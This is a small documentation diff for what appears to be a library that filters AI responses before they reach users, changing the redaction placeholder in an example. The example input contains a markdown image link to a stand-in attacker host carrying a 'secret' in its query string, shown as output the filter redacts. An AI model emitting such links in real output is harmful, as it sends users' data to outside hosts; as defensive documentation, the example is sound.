@@ -8,7 +8,7 @@ a response before it reaches a user), offline and fast.
     guard = Guard()                      # the default pipeline (docs/guard.md)
     result = guard.check("mail bob@example.com ![x](https://evil.example/?q=secret)")
     result.decision                      # Decision.REDACTED
-    result.text                          # 'mail <EMAIL_ADDRESS> [removed]'
+    result.text                          # 'mail <EMAIL_ADDRESS> «removed»'
     [(f.step, f.rule, f.span) for f in result.findings]
 
 The pipeline: size limits (before any work), ``unicode`` (hidden characters), ``nfkc``,
